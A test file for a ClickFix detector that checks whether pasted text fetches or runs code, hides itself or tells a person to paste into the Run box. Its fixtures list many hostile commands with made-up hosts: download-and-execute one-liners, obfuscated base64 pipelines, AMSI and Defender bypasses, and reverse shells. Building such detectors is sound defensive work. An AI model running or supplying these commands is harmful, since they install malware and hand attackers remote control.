import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { flatten, MAYBE_COMMAND } from '@/utils/guards/command-words';
import { commandShell } from '@/utils/guards/commands';
import { conceals } from '@/utils/guards/concealment';
import { asksToPasteAndRun } from '@/utils/guards/run-box';
import { readCorpus } from './corpus';

/**
 * ClickFix commands as public write-ups describe them (the vendors' reports named in
 * tests/fixtures/clickfix/SOURCES.md, mrd0x's FileFix, Microsoft's and Unit 42's notes), with
 * their hosts made up: each fetches or runs code.
 */
const WINDOWS = [
  'powershell -w h -c "iex(irm https://check-human.example/v.ps1)"',
  "mshta https://verify.example/captcha.hta # ✅ ''I am not a robot - reCAPTCHA Verification ID: 2165''",
  'cmd /c curl -s -o %TEMP%\\x.exe https://cdn.example/x.exe & start %TEMP%\\x.exe',
  'p^o^w^e^r^s^h^e^l^l -w 1 i`e`x (iwr http://198.51.100.7/a)',
  'powershell -e JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
  '"pow"+"ershell" -c "i"+"ex(irm x.example/a)"',
  'msiexec /q /i https://cdn.example/setup.msi',
  'rundll32 \\\\webdav.example@SSL\\share\\x.dll,Entry',
  'regsvr32 /s /n /u /i:https://x.example/a.sct scrobj.dll',
  'certutil -urlcache -split -f https://x.example/a.exe %TEMP%\\a.exe && %TEMP%\\a.exe',
  'bitsadmin /transfer j /download /priority high https://x.example/a.exe %TEMP%\\a.exe',
  'conhost.exe --headless powershell -c "iwr x.example/b|iex"',
  'cscript //nologo \\\\files.example@SSL\\dav\\run.js',
  'pcalua.exe -a \\\\share.example\\x\\setup.exe',
  '%COMSPEC% /c f^i^n^g^e^r gcaptcha@captchaver.example | c^m^d',
  'Powershell.exe -c ping example.com                                                    # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx',
  'irm https://get.evil.example/a | iex',
  'cmd /c start /min powershell -w h -c "$u=\'https://x.example/a\';iex(New-Object Net.WebClient).DownloadString($u)"',
  'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden -c "IEX ((new-object net.webclient).downloadstring(\'http://10.0.0.1/a\'))"',
  '%comspec:~-16,1%%comspec:~-1%%comspec:~-13,1% /c calc',
  // What runs, not which name: a hidden window, a scan switched off, a program run from a
  // folder anyone writes to or from the address bar behind a comment, a download saved as a
  // program, script from a link's scheme, PowerShell's abbreviations.
  'powershell -WindowStyle Hidden -ExecutionPolicy Bypass -Command "Get-Content a.txt"',
  "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
  'rundll32 C:\\Users\\Public\\Libraries\\helper.dll,Start',
  'regsvr32 /s %APPDATA%\\x\\update.sct',
  'C:\\Users\\Public\\Documents\\update.exe          # Windows Defender signature update',
  'Start-BitsTransfer -Source https://cdn.example/u.exe -Destination u.exe',
  'powershell iwr https://x.example/s.ps1 -OutFile s.ps1',
  'mshta vbscript:CreateObject("WScript.Shell").Run("calc")(window.close)',
  'powershell -enco SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA=',
  "mshta about:\"<script>new ActiveXObject('WScript.Shell').Run('calc')</script>\"",
  // Unit 42's 2026 notes: a script read from a DNS TXT record; WMI starting a hidden cmd that
  // mounts a WebDAV share and loads a DLL from it.
  '"C:\\windows\\system32\\WindowsPowerShell\\v1.0\\PowerShell.exe" -w h -ep bypass -c "iex((Resolve-DnsName -Type TXT p.x.example -Server 8.8.8.8).Strings -join \'\')"',
  "pcalua.exe -a \"powershell\" -c \"s=([wmiclass]'Win32_ProcessStartup').CreateInstance();s.ShowWindow=0;([wmiclass]'Win32_Process').Create('cmd /v/c pushd \\\\files.x.example@SSL\\ & rundll32 gc.key,#1',null,s)\"",
  // cmd running each line a finger server sends (Unit 42, 2026), with no pipe and no cmd before it.
  'start "" /min for /f "skip=8 delims=" %h in (\'finger lxjXZGpPHp@finger.x.example\') do call %h',
  // A program downloaded to a folder by .NET's own client, pasted into a console.
  "(New-Object Net.WebClient).DownloadFile('http://x.example/a.exe','C:\\Users\\Public\\a.exe')",
  // A DNS answer piped into cmd, with no cmd before it (pasted into a console).
  'nslookup -q=txt x.example 198.51.100.7 | findstr "^Name:" | cmd',
  // A remote share mapped to a drive or entered, then a script run from it.
  'net use Z: \\\\files.x.example@80\\share /persistent:no && Z:\\update.cmd',
  'pushd \\\\files.x.example@SSL\\DavWWWRoot & start setup.bat',
  // A program or shortcut on an internet host's share pasted whole (the Run box runs it), and
  // Windows' links that open a remote folder or install from afar.
  '\\\\files.x.example@SSL\\DavWWWRoot\\setup.exe',
  '"\\\\203.0.113.7\\share\\invoice.pdf.lnk"',
  'search-ms:query=invoice&crumb=location:\\\\files.x.example@SSL@443\\DavWWWRoot&displayname=Downloads',
  'ms-appinstaller:?source=https://x.example/a.msix',
  // PowerShell reads an en dash, an em dash or a slash before a parameter as its dash.
  'powershell \u2013e aQB3AHIAIABhAC4AZQB4AGEAbQBwAGwAZQAvAGMAIAB8ACAAaQBlAHgA',
  'powershell /enc aQB3AHIAIABhAC4AZQB4AGEAbQBwAGwAZQAvAGMAIAB8ACAAaQBlAHgA',
  'powershell \u2014w h \u2014c "echo hi"',
  // The scan switched off with its class's name spelt out of pieces.
  "$w='System.Management.Automation.A';$c='si';$m='Utils';[Ref].Assembly.GetType(('{0}m{1}{2}' -f $w,$c,$m))",
  '(Get-Variable x -ValueOnly)."A`ss`Embly"."GET`TY`Pe"(("{2}{0}{1}" -f \'Amsi\',\'Utils\',\'System.Management.Automation.\'))',
  // Programs the LOLBAS catalogue lists fetching from afar, in its own examples' shapes.
  'esentutl.exe /y \\\\share.example\\tools\\a.exe /d %TEMP%\\a.exe /o',
  'MpCmdRun.exe -DownloadFile -url https://x.example/a.exe -path C:\\Users\\Public\\a.exe',
  // A scriptlet on disk for regsvr32; PowerShell told to hide its window with nothing after it;
  // Invoke-RestMethod saving a script.
  'regsvr32 /s /i:C:\\Users\\x\\a.sct scrobj.dll',
  'regsvr32 /s a.sct',
  'powershell -w hidden',
  'irm https://x.example/a.ps1 -OutFile a.ps1',
  // Defender told to look away; PowerShell's run word found by a wildcard, or the engine's own.
  'Add-MpPreference -ExclusionPath C:\\',
  'powershell -c Set-MpPreference -DisableRealtimeMonitoring $true',
  '&(gcm i*x)(irm x.example/a)',
  '$ExecutionContext.InvokeCommand.InvokeScript((irm x.example/a))',
  // A file of any name run with a script engine named.
  'wscript.exe //b //e:vbscript C:\\Users\\Public\\a.txt',
  'ieexec.exe https://x.example/a.exe',
  'desktopimgdownldr.exe /lockscreenurl:https://x.example/a.exe /eventName:desktopimgdownldr',
  'extrac32 /Y /C \\\\files.example\\share\\a.exe C:\\Temp\\a.exe',
];
const TERMINAL = [
  'curl -s http://203.0.113.9/d/rob | nohup bash &',
  'echo "Y3VybCAtcyBodHRwOi8vNDUu" | base64 -d | bash',
  'osascript -e \'do shell script "curl -s http://x.example/a | sh"\'',
  '/bin/bash -c "$(curl -fsSL https://brew-install.example/install.sh)"',
  'python3 -c "import urllib.request;exec(urllib.request.urlopen(\'http://x.example/p\').read())"',
  'curl -fsSL https://x.example/i | VERSION="1" PREFIX="$HOME/x" bash',
  // A download handed to a shell as a here-string; an interpreter's code on the lines after it.
  'bash <<< "$(curl -s http://x.example/a)"',
  "python3 - <<'EOF'\nimport urllib.request;exec(urllib.request.urlopen('http://x.example/p').read())\nEOF",
  // A script spelt in escapes and handed to a shell.
  "printf '\\143\\165\\162\\154 -s http://x.example/a | sh' | sh",
  "echo -e '\\x63url -s http://x.example/a' | bash",
  // Decoded inside the shell's own substitution: no download word, no pipe into a shell.
  '/bin/bash -c "$(echo Y3VybCAtZnNTTCBodHRwOi8vMS4yLjMuNC9zIHwgemg= | base64 --decode)"',
  'eval "$(echo Y3VybCAtcyBodHRwOi8vNDUu | base64 -D)"',
  'zsh -c "$(printf 6375726c | xxd -r -p)"',
  'sh -c "$(echo \'Y3VybA==\' | openssl enc -base64 -d)"',
  // A download run by the shell's substitution; a shell handed a decoder; Ruby fetching code.
  'eval `wget -qO- https://x.example/s`',
  '$(curl -fsSL https://x.example/s)',
  'echo Y3VybCAtcyBodHRw | base64 -d | eval',
  'bash -c "echo Y3VybCAtcyBodHRw | base64 -d"',
  "ruby -e \"require 'net/http'; eval(Net::HTTP.get(URI('https://x.example/r')))\"",
  // The pattern library's rules' shapes: a download handed to an interpreter next, Perl
  // fetching code after its module option.
  'wget https://x.example/a.sh; sh a.sh',
  'curl -sLO https://x.example/setup.sh && sudo bash setup.sh',
  'perl -MLWP::Simple -e \'eval(get("http://x.example/p"))\'',
  'python3 -c "$(curl -fsSL https://x.example/p.py)"',
  // A download kept as a script, the stage run next; a shell handed to another machine.
  'curl -s https://x.example/rs.sh -o /tmp/rs.sh',
  'curl -O https://x.example/stage.sh',
  // … kept by wget under the address's name, or by the shell's own redirection; hidden in memory
  // or a dot file in /tmp.
  'wget https://x.example/stage.py',
  'curl -s https://x.example/a > /tmp/a.sh',
  'curl -s -o /dev/shm/x https://x.example/x',
  'wget -q -O /tmp/.cache https://x.example/x',
  // A download run from a variable, by exec, or as the line's first word in backticks.
  'x=$(curl -s https://x.example/p) && eval "$x"',
  'c=$(wget -qO- https://x.example/p); $c',
  'exec $(curl -s https://x.example/p)',
  'sudo curl -fsSL https://x.example/a -o /usr/local/bin/a && sudo chmod +x /usr/local/bin/a && a',
  // Empty strings and quotes a shell drops; the person's own shell, by its variable or through xargs.
  'cu\'\'rl -s https://x.example/a | ba""sh',
  '"curl" -s https://x.example/a | "bash"',
  'curl -s https://x.example/a | $SHELL',
  'curl -s https://x.example/a | xargs -0 bash -c',
  '`wget -qO- https://x.example/p`',
  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
  'nc -e /bin/sh 203.0.113.9 4444',
  // SHub's lure (Unit 42, 2026): an address decoded inside curl's arguments, fed to zsh.
  'echo "Downloading Update: https://support.apple.com/downloads/x.dmg" && curl -s $(echo "aHR0cHM6Ly94LmV4YW1wbGUvcw==" | base64 -d) | zsh',
  // A decoder feeding an interpreter; a download substituted into one; Ruby and Node evaluating it.
  'echo cHJpbnQoMSk= | base64 -d | python3',
  'echo ZWNobyBoaQ== | base64 -di | sh',
  'python3 <(curl -s https://x.example/p.py)',
  'ruby -ropen-uri -e \'eval URI.open("https://x.example/r").read\'',
  "node -e \"require('https').get('https://x.example/n',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"",
];
/** Install commands docs show openly: commands that fetch and run code all the same. */
const DOCS_COMMANDS = [
  "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
  'irm get.scoop.sh | iex',
  '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
  "Set-ExecutionPolicy Bypass -Scope Process -Force; iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
  'powershell -ExecutionPolicy ByPass -c "irm https://astral.sh/uv/install.ps1 | iex"',
  'curl -fsSL https://deb.nodesource.com/setup_20.x | sudo -E bash -',
  'sh <(curl -L https://nixos.org/nix/install) --daemon',
];
/** What ordinary copy buttons copy, and commands that fetch or run nothing. */
const NOT_COMMANDS = [
  'SAVE20',
  'https://example.com/download/setup.exe',
  'https://learn.microsoft.com/en-us/powershell/',
  'Check out this PowerShell tutorial https://x.example/a',
  'Note: PowerShell 7 is required. See https://aka.ms/powershell',
  'npm install --save-dev vitest',
  'pip install requests',
  'brew install wget',
  'winget install --id Microsoft.PowerShell --source winget',
  '0x52908400098527886E0F7030069857D2E4169EE7',
  'bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq',
  'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
  'ABCD-EFGH-IJKL-MNOP',
  'git clone https://github.com/x/y.git',
  'docker run -p 80:80 nginx',
  'curl -O https://example.com/file.tar.gz',
  'powershell -Command "Get-Process"',
  'cmd /c dir',
  // A document downloaded by .NET's own client.
  "(New-Object Net.WebClient).DownloadFile('https://x.example/report.pdf','report.pdf')",
  // A DNS answer read, a here-document printed: nothing run.
  'nslookup -q=txt x.example | findstr "v=spf1"',
  "python3 - <<'EOF'\nprint('hello')\nEOF",
  // A share mapped, or an escape printed, with nothing run from it.
  'net use Z: \\\\fileserver\\team /persistent:yes',
  'pushd \\\\fileserver\\team && dir',
  // An office file server's program, a remote folder's path, a search of this computer.
  '\\\\fileserver\\software\\setup.exe',
  '\\\\files.x.example\\reports\\2026',
  'search-ms:query=invoice&crumb=location:C%3A%5CUsers',
  "printf '\\x1b[1mbold\\x1b[0m\\n'",
  'ssh user@host.example.com',
  // Decoding that runs nothing: a secret read, a value kept.
  "kubectl get secret db -o jsonpath='{.data.password}' | base64 --decode",
  'export TOKEN="$(echo c2VjcmV0 | base64 -d)"',
  // kryc/clickfix-detect's benign cases: local programs, downloads that run nothing.
  'cmd.exe /c echo deployment complete',
  'rundll32.exe shell32.dll,Control_RunDLL',
  'mshta.exe "C:\\Program Files\\Example\\help.hta"',
  'wscript.exe "C:\\Scripts\\logon.vbs"',
  'curl.exe -o C:\\Temp\\status.json https://example.invalid/status.json',
  'Invoke-WebRequest -Uri https://example.invalid/status.json -OutFile C:\\Temp\\status.json',
  'Get-Service | Select-Object Name, Status',
  'conhost.exe',
  // Near them: a download kept as a document, a system DLL, a program's path, a substitution
  // whose output is only printed or kept.
  'Invoke-WebRequest -Uri https://example.invalid/report.pdf -OutFile report.pdf',
  'rundll32 printui.dll,PrintUIEntry /il',
  'C:\\Program Files\\App\\app.exe',
  'echo $(curl -s https://api.example/version)',
  'VERSION=$(curl -s https://api.example/latest | jq -r .tag_name)',
  'VERSION=$(curl -s https://api.example/latest | jq -r .tag_name); echo $VERSION',
  'curl -s https://api.example/status > status.json',
  'Set-MpPreference -EnableNetworkProtection Enabled',
  'wget -O /tmp/go.tar.gz https://go.dev/dl/go1.22.linux-amd64.tar.gz',
  'curl -Lo /tmp/kubectl https://dl.k8s.io/release/v1.30.0/bin/linux/amd64/kubectl',
  // The catalogued programs on local files: what they are for.
  'makecab notes.txt notes.cab',
  'esentutl /mh C:\\Windows\\System32\\LogFiles\\data.edb',
  'MpCmdRun.exe -Scan -ScanType 1',
  // A blank window; a download read or unpacked, not run.
  'mshta about:blank',
  'curl -O https://example.com/notes.txt; cat notes.txt',
  'wget https://example.com/x.tar.gz && tar xzf x.tar.gz',
  'curl -LO https://github.com/x/y/releases/download/v1/y.tar.gz',
  'nc -zv example.com 443',
  'for /f "tokens=*" %i in (\'dir /b *.txt\') do type %i',
  'echo aGVsbG8= | base64 -d',
  '$PSVersionTable.PSVersion.GetType().Assembly.Location',
];

describe('the command recogniser', () => {
  it.each(WINDOWS)('reads a Windows command that fetches or runs code: %s', (text) => {
    expect(commandShell(text)).toBe('windows');
  });
  it.each(TERMINAL)('reads a Terminal command that fetches or runs code: %s', (text) => {
    expect(commandShell(text)).toBe('terminal');
  });
  it.each(DOCS_COMMANDS)('reads an installer docs show openly as a command too: %s', (text) => {
    expect(commandShell(text)).not.toBeNull();
  });
  it.each(NOT_COMMANDS)('leaves what fetches and runs nothing alone: %s', (text) => {
    expect(commandShell(text)).toBeNull();
  });

  it('reads the words through the escapes and joins that hide them', () => {
    expect(flatten('p^o^w`e`r"sh"ell "i"+"ex"')).toBe('powershell "iex"');
  });

  it('needs no more than the page-world guard holds back: every command has a word it knows', () => {
    const corpora = [
      ...WINDOWS,
      ...TERMINAL,
      ...DOCS_COMMANDS,
      ...readCorpus('vendor-payloads'),
      ...readCorpus('clickgrab-read'),
      ...readCorpus('patterns-malicious-read'),
    ];
    const commands = corpora.filter((text) => commandShell(text) !== null);
    expect(commands.length).toBeGreaterThan(60);
    for (const text of commands) expect(MAYBE_COMMAND.test(flatten(text)), text).toBe(true);
    // And the same for commands disguised at random: escapes, joins, case.
    fc.assert(
      fc.property(
        fc.constantFrom(...WINDOWS, ...TERMINAL),
        fc.array(fc.constantFrom('^', '`', '\u200b'), { maxLength: 3 }),
        fc.nat(),
        (text, noise, seed) => {
          const at = seed % text.length;
          const disguised = text.slice(0, at) + noise.join('') + text.slice(at);
          return commandShell(disguised) === null || MAYBE_COMMAND.test(flatten(disguised));
        },
      ),
    );
  });
});

describe('concealment', () => {
  it.each([
    ['padding before a comment', `mshta https://x.example/a${' '.repeat(40)}# verify`],
    [
      'padding on a later line',
      `echo ok\npowershell -c iex(irm x.example)${' '.repeat(40)}C:\\HR\\Policy.docx`,
    ],
    ['Unicode spaces', `powershell -c iex(irm x.example)${'\u2800'.repeat(40)}ok`],
    ['a fake check comment', "powershell -c iex(irm x.example) # I'm not a robot: ID 4821"],
    ['a cmd comment', 'cmd /c start x.exe & rem reCAPTCHA verification'],
    ['invisible characters', 'power\u200bshell -c iex(irm x.example)'],
    ['lines pushed down', 'echo ok\n\n\n\n\n\ncurl x.example | sh'],
  ])('is read in %s', (_kind, text) => {
    expect(conceals(text)).toBe(true);
  });

  it.each([
    "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    'npm install   # adds it to package.json',
    'export PATH="$HOME/.local/bin:$PATH"          # aligned comment',
    '    + CategoryInfo          : NotSpecified: (:) [], MethodInvocationException',
    'docker run \\\n  -p 80:80 \\\n  nginx',
    // The banner a tool prints, shown in its install block (jdx/mise's README): a drawing's gaps.
    `$ curl https://mise.run | sh\n$ ~/.local/bin/mise --version\n${' '.repeat(14)}_${' '.repeat(40)}__\n   ____ ___  (_)_______        ___  ____`,
  ])('is not read in a plain command: %s', (text) => {
    expect(conceals(text)).toBe(false);
  });
});

describe('run-box instructions', () => {
  it.each([
    'Press Windows + R, then Ctrl + V, then Enter.',
    'Step 1: press ⊞ Win+R',
    'Drücken Sie die Windows-Taste + R',
    'Presiona la tecla Windows + R y pega con Ctrl + V',
    'Pressione a tecla Windows + R',
    'اضغط على ⊞ + R',
    'Press ⌘ + Space, type Terminal and press Return',
    'Open File Explorer and press Ctrl + L to reach the address bar',
    'Paste with Ctrl + V and press Enter',
    'Press the Windows key and R together',
    'Press Win + X and choose Terminal',
  ])('is read in: %s', (text) => {
    expect(asksToPasteAndRun(text)).toBe(true);
  });

  it.each([
    'Paste that in a macOS Terminal or Linux shell prompt.',
    'Open a terminal and run the following command.',
    'This tool runs on Windows and R users love it.',
    'Enter your e-mail address to subscribe.',
    'Press Ctrl + C to stop the server.',
  ])('is not read in docs prose: %s', (text) => {
    expect(asksToPasteAndRun(text)).toBe(false);
  });
});
